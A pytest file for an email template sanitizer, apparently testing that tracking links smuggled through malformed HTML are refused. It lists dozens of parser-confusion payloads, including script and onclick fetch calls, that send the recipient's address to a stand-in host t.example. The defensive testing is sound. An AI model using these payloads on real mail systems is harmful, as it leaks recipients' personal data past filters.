"""A mail is written so plainly that no program finds an address in it that we did not look at."""

import pytest

from yingtai.content.errors import AddressRefused, MarkupRefused, MistakeInPart
from yingtai.content.markup import trouble_in
from yingtai.content.rendering import compile_template
from yingtai.content.testing import make_template

VALUES = {
    "person": {"email": "anna@example.com", "tag": "img src=https://t.example/anna"},
    "unsubscribe_url": "https://m.example.com/u/1",
}
LOOK = "https://t.example/?e={{ person.email }}"
HIDDEN = {
    "comment in a quote": f'<!-- <a title="--><img src={LOOK}><b title="> --></b>',
    "link in a comment": f'<!-- <a title="--><a href={LOOK}>x</a><b title="> --></b>',
    "style in a quote": f'<style><a title="</style><img src={LOOK}><b title="> "></b>',
    "title in a quote": f'<title><a title="</title><a href={LOOK}>x</a><b title="> "></b>',
    "page in a frame": f'<iframe srcdoc="&lt;img src={LOOK}&gt;"></iframe>',
    "frame of an element": f'<p srcdoc="&lt;img src={LOOK}&gt;"></p>',
    "link to fetch": f'<link rel="preload" as="image" imagesrcset="{LOOK} 1x">',
    "conditional": f'<!--[if mso]><a title="<![endif]--><img src={LOOK}>"></a><![endif]-->',
    "revealed": f'<![if !mso]><b title="<![endif]><img src={LOOK}>"></b>',
    "textarea": f'<textarea><b title="</textarea><img src={LOOK}>"></textarea>',
    "noscript": f'<noscript><p title="</noscript><img src={LOOK}>"></noscript>',
    "xmp": f'<xmp><b title="</xmp><img src={LOOK}>"></xmp>',
    "drawing": f'<svg><style><a title="</style><img src={LOOK}>"></style></svg>',
    "formula": f'<math><mtext><table><mglyph><style><!--</style><img title="--><img src={LOOK}>">',
    "template": f'<template><img title="</template><img src={LOOK}>"></template>',
    "plaintext": f"<plaintext><img src={LOOK}>",
    "select": f"<select><style></select><img src={LOOK}></style>",
    "quote amid a value": f"<img title=a'b=' src={LOOK} '>",
    "no blank between": f'<img title="a"src={LOOK}>',
    "slash between": f"<img/src={LOOK}>",
    "quote in a name": f"<img \"title='src={LOOK}'>",
    "accent": f"<img title=`> src={LOOK}>`",
    "never closed": f'<p title="x><img src={LOOK}>',
    "comment ended early": f"<!--><img title='--><img src={LOOK}>'>",
    "comment ended oddly": f'<!-- --!><b title="--><img src={LOOK}>">',
    "instruction": f'<?x <b title="?><img src={LOOK}>">',
    "declaration": f'<!x <b title="><img src={LOOK}>">',
    "section": f'<![CDATA[ <b title="]]><img src={LOOK}>">',
    "end with a quote": f'</p title="><img src={LOOK}>">',
    "nothing before": f"<\0img src={LOOK}>",
    "name from a value": "<{{ person.tag }}>",
    "base": f'<base href="{LOOK}">',
    "form": f'<form action="{LOOK}"><button>x</button></form>',
    "button": f'<button formaction="{LOOK}">x</button>',
    "refresh": f'<meta http-equiv=" Refresh" content="0; {LOOK}">',
    "object": f'<object data="{LOOK}"></object>',
    "embed": f'<embed src="{LOOK}">',
    "handler": "<p onclick=\"fetch('https://t.example/{{ person.email }}')\">x</p>",
    "script": "<script>fetch('https://t.example/{{ person.email }}')</script>",
    "selector": '<style>p[title^="a"] { background: url(https://t.example/a) }</style><p title="{{ person.email }}">',
    "Outlook's picture": f'<!--[if mso]><v:imagedata o:href="{LOOK}" src="https://i.example/1.png"/><![endif]-->',
    "Outlook's filling": f'<!--[if mso]><v:fill o:href="{LOOK}" src="https://i.example/1.png"/><![endif]-->',
    "Outlook's background": f'<v:background fill="{LOOK}"></v:background>',
    "Outlook's strokes": f'<v:rect strokecolor="{LOOK}"></v:rect>',
    "Outlook's base": f"<!--[if mso]><xml><o:HyperlinkBase>{LOOK}</o:HyperlinkBase></xml><![endif]-->",
    "Word's file": f'<w:binData w:src="{LOOK}"/>',
    "attribution": f'<img attributionsrc="{LOOK}" src="https://i.example/1.png">',
    "base of a part": f'<div xml:base="{LOOK}">x</div>',
    "profile": f'<head profile="{LOOK}"></head>',
    "namespace": f'<p xmlns:o="{LOOK}">x</p>',
    "attribute of nobody": f'<p data-anything="{LOOK}">x</p>',
    "words with an address": f'<p title="See {LOOK}">x</p>',
    "slashes as references": '<p data-x="&#x0000000002F;&sol;t.example/{{ person.email }}">x</p>',
    "slashes apart": '<p data-x="/&Tab;\\t.example/{{ person.email }}">x</p>',
    "share": r'<p data-x="\\t.example\{{ person.email }}">x</p>',
    "scheme without slashes": '<p data-x="https:t.example/{{ person.email }}">x</p>',
    "style behind an attachment": f'<p style="cid:x;background:url({LOOK})">x</p>',
    "sheet behind an attachment": f"<style>cid:x {{}} p {{ background: url({LOOK}) }}</style>",
    "picture behind a picture": f'<img srcset="data:image/gif;base64,R0 1x, {LOOK} 2x">',
    "style sheet": f'<link rel="stylesheet" href="{LOOK}">',
    "style sheet that selects": '<link rel="stylesheet" href="https://t.example/"><p title="{{ person.email }}"></p>',
    "read ahead": '<link rel="prefetch" href="https://t.example/">',
    "quote in Chinese": f'<限 title="><img src={LOOK}>">',
    "imported": '<style>@import "https://t.example/x.css";</style><p title="{{ person.email }}">',
}
ORDINARY = """<?xml version="1.0"?><!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/x.dtd">
<html xmlns="http://www.w3.org/1999/xhtml" xmlns:v="urn:schemas-microsoft-com:vml" lang=en><head>
<meta http-equiv="Content-Type" content="text/html; charset=UTF-8"/><meta name="viewport" content="width=device-width">
<title>Hello {{ person.email }}</title><!--[if mso]><xml><o:OfficeDocumentSettings><o:AllowPNG/>
</o:OfficeDocumentSettings></xml><style>td { mso-line-height-rule: exactly }</style><![endif]-->
<style type="text/css"><!-- a[x-apple-data-detectors], p > b { color: red !important } --></style></head>
<body style="margin:0" bgcolor=#ffffff><!-- the head -->
<!--[if !mso]><!--><p>a < b, <3 & more</p><!--<![endif]--><![if gte mso 9]><p>x</p><![endif]>
<!--[if mso]><v:roundrect href="https://shop.example/x" arcsize="8%" fill="t"><v:imagedata src="https://i.example/1.png"/>
</v:roundrect><![endif]--><table role='presentation' width="100%"><tr><td background="https://i.example/2.png" nowrap>
<a href=https://shop.example/?a=1&b=2 target="_blank"><img src="https://i.example/1.png" alt="{{ person.email }}"></a>
<picture><source srcset="https://i.example/1.webp"><img src="https://i.example/1.png"/></picture>
<!-- <p>left out</p> --></td></tr></table><a href="{{ unsubscribe_url }}">Unsubscribe</a></body></html>"""


HARMLESS = {
    "head of MJML": "<!--[if mso]><noscript><xml><o:OfficeDocumentSettings><o:AllowPNG/><o:PixelsPerInch>96"
    "</o:PixelsPerInch></o:OfficeDocumentSettings></xml></noscript><![endif]-->",
    "fonts of MJML": '<!--[if !mso]><!--><link href="https://fonts.example/css?family=Ubuntu:300,400" rel="stylesheet" '
    'type="text/css"><style>@import url(https://fonts.example/css?family=Ubuntu:300,400);</style><!--<![endif]-->',
    "section of MJML": '<table align="center" border="0" cellpadding="0" cellspacing="0" role="presentation" '
    'style="width:100%;"><tbody><tr><td style="vertical-align:top" class="{{ person.email }}">'
    "</td></tr></tbody></table>",
    "background of MJML": '<!--[if mso | IE]><v:rect style="width:600px;" xmlns:v="urn:schemas-microsoft-com:vml" '
    'fill="true" stroke="false"><v:fill origin="0.5, 0" position="0.5, 0" src="https://i.example/1.png" color="#fff" '
    'type="tile" size="1,1" aspect="atleast"/><v:textbox style="mso-fit-shape-to-text:true" inset="0,0,0,0">'
    "</v:textbox></v:rect><![endif]-->",
    "button of Outlook": '<!--[if mso]><v:roundrect xmlns:v="urn:schemas-microsoft-com:vml" '
    'xmlns:w="urn:schemas-microsoft-com:office:word" href="https://shop.example/" style="v-text-anchor:middle" '
    'arcsize="8%" strokecolor="#1e3650" fillcolor="#556270"><w:anchorlock/><center>x</center>'
    "</v:roundrect><![endif]-->",
    "background of Outlook": '<v:background fill="t"><v:fill type="tile" src="https://i.example/1.png"/></v:background>',
    "target of all links": '<base target="_blank">',
    "less in a value": '<img src="https://i.example/1.png" alt="5 < 6, {{ person.email }}">',
    "less in a style sheet": "<style>@media (width<600px) { p { color: red } } @media (width <= 9px) {}</style>",
    "less in a title": "<title>1 < 2, <3</title>",
    "Chinese in angles": "<p><- 返回 <限时> 优惠</p>",
    "words with a colon": '<p title="Note: {{ person.email }} and/or data: 1">x</p>',
    "picture that is attached": '<img src="cid:logo@{{ person.email }}">',
    "picture in the mail": '<img src="data:image/png;base64,iVBORw0KGgo=">',
}
WORDED = {
    "<form>": ("content.markup-refused", "<p>x</p>\n<form></form>"),
    "<img attributionsrc>": (
        "content.attribute-refused",
        '<p>x</p>\n<img attributionsrc="https://i.example/1">',
    ),
    "<base href>": ("content.attribute-refused", '<p>x</p>\n<base href="https://i.example/">'),
    "<link rel>": ("content.attribute-refused", '<p>x</p>\n<link rel="icon" href="https://i.example/1.png">'),
    "<meta http-equiv>": ("content.attribute-refused", '<p>x</p>\n<meta http-equiv="refresh" content="1">'),
    "<style>": ("content.inside-refused", "<p>x</p>\n<style>p {}"),
    "<title>": ("content.inside-refused", "<p>x</p>\n<title>x"),
    "<p …": ("content.sign-refused", "<p>x</p>\n<p title='x>x</p>"),
    "< …": ("content.sign-refused", "<p>x</p>\n<<b>x</b>"),
}


@pytest.mark.parametrize("html", HIDDEN.values(), ids=HIDDEN)
def test_an_address_hidden_in_twisted_html_is_not_sent(html):
    with pytest.raises(AddressRefused):
        compile_template("s", f"<p>{html}</p>").render(VALUES)


@pytest.mark.parametrize("html", HIDDEN.values(), ids=HIDDEN)
def test_twisted_html_that_liquid_writes_is_not_sent(html):
    written = "{% capture twisted %}" + html + "{% endcapture %}{{ twisted }}"

    with pytest.raises((AddressRefused, MistakeInPart)):
        compile_template("s", written).render(VALUES)


def test_what_mails_are_made_of_is_sent():
    sent = compile_template("s", ORDINARY).render(VALUES)

    assert sent.html.count("anna@example.com") == 2


@pytest.mark.parametrize("html", HARMLESS.values(), ids=HARMLESS)
def test_what_ordinary_templates_hold_is_sent_as_it_stands(html):
    sent = compile_template("s", html).render(VALUES)

    assert sent.html == html.replace("{{ person.email }}", "anna@example.com")


@pytest.mark.parametrize(("what", "refused"), WORDED.items(), ids=WORDED)
def test_a_refusal_names_the_cause(what, refused):
    with pytest.raises(MarkupRefused) as problem:
        compile_template("s", refused[1]).render(VALUES)

    assert (problem.value.code, problem.value.facts) == (
        refused[0],
        {"part": "HTML", "line": 2, "what": what},
    )


def test_no_version_is_made_of_what_cannot_be_sent(acting, brand):
    with pytest.raises(MarkupRefused) as problem:
        make_template(acting, brand.node_no, html=f"<p>x</p>\n{HIDDEN['page in a frame']}")

    assert problem.value.facts == {"part": "HTML", "line": 2, "what": "<iframe>"}


def test_a_refusal_says_nothing_that_a_value_said():
    with pytest.raises(MarkupRefused) as problem:
        compile_template("s", "{{ '<' }}{{ person.email }}>").render(VALUES | {"person": {"email": "anna"}})

    assert problem.value.facts["what"] == "…"


@pytest.mark.parametrize(
    "opening",
    ["<", "<a ", "<a x=", '<a x="', "<style>", "<style>< ", "<a x='< ", "<限", "<title><!--", "<p x='y'"],
)
def test_a_mail_full_of_openings_is_read_once(opening):
    assert trouble_in(opening * 100_000)
